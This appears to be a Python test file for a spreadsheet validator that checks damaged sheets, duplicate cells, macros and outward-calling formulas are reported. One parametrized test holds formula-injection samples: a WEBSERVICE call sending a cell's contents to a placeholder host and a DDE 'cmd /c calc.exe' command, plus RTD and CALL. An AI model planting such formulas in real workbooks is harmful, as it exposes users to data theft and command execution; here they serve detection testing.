"""A sheet that could not be read, or that programs read differently, is never passed over."""

from __future__ import annotations

import pytest
from lxml import etree

from tests.atelier import Atelier, q
from tests.corpus.cas import controler
from xl_cpom.validators.model import BLOQUANT, Report, Verdict
from xl_cpom.workbook.sheets import SHEETS

FEUILLES = [*(sheet.name for sheet in SHEETS.values()), "Accueil", "Listes"]


def codes(report: Report) -> list[tuple[str, str]]:
    return [(f.code, f.sheet) for f in report.findings]


@pytest.mark.parametrize("feuille", FEUILLES)
def test_a_damaged_sheet_is_blocking_and_named(feuille: str) -> None:
    atelier = Atelier()
    part = atelier.partie(feuille)
    atelier.membres[part] = atelier.membres[part][: len(atelier.membres[part]) // 2]
    report = controler(atelier.octets())
    assert report.verdict is Verdict.NON_RECEVABLE
    finding = next(f for f in report.findings if f.code == "STR-037")
    assert finding.sheet == feuille and finding.severity is BLOQUANT
    assert feuille in finding.message and "interrompu" in finding.message
    assert not {f.code for f in report.findings} & {"STR-002", "STR-030"}  # said once


def test_a_damaged_sheet_beside_the_template_is_blocking_too() -> None:
    atelier = Atelier().ajouter_feuille("Brouillon")
    part = atelier.partie("Brouillon")
    del atelier.arbres[part]
    atelier.membres[part] = b"<worksheet"
    report = controler(atelier.octets())
    assert report.verdict is Verdict.NON_RECEVABLE
    assert ("STR-037", "Brouillon") in codes(report)


def test_a_sheet_without_content_is_said() -> None:
    atelier = Atelier()
    del atelier.membres[atelier.partie("Plan d'actions")]
    report = controler(atelier.octets())
    assert report.verdict is Verdict.NON_RECEVABLE
    assert ("STR-002", "Plan d'actions") in codes(report)


def test_a_cell_written_twice_is_said_with_its_address() -> None:
    atelier = Atelier()
    row = atelier._ligne(atelier.feuille("Plan d'actions"), 6)
    row.append(etree.fromstring(etree.tostring(row[2])))
    report = controler(atelier.octets())
    (finding,) = (f for f in report.findings if f.code == "STR-038")
    assert finding.sheet == "Plan d'actions" and finding.cells == (row[2].get("r"),)
    assert report.verdict is Verdict.AVEC_RESERVES


def test_macros_are_said() -> None:
    atelier = Atelier()
    atelier.membres["xl/vbaProject.bin"] = b"\0" * 64
    report = controler(atelier.octets())
    assert codes(report) == [("STR-039", "")]


@pytest.mark.parametrize(
    ("formule", "nom"),
    [('_xlfn.WEBSERVICE("http://x.example/?"&amp;A1)', "WEBSERVICE"),
     ("cmd|'/c calc.exe'!A0", "CMD"), ('RTD("x",,"y")', "RTD"), ('CALL("k","v")', "CALL")],
)  # fmt: skip
def test_a_formula_that_calls_out_is_said(formule: str, nom: str) -> None:
    atelier = Atelier()
    atelier.formule("Accueil", "H40", formule, "x")
    report = controler(atelier.octets())
    (finding,) = report.findings
    assert (finding.code, finding.sheet, finding.cells) == ("STR-040", "Accueil", ("H40",))
    assert nom in finding.message


def test_the_shipped_example_calls_nobody() -> None:
    atelier = Atelier()
    assert any(cell.find(q("f")) is not None for cell in atelier.feuille("Indicateurs").iter())
    assert controler(atelier.octets()).findings == ()
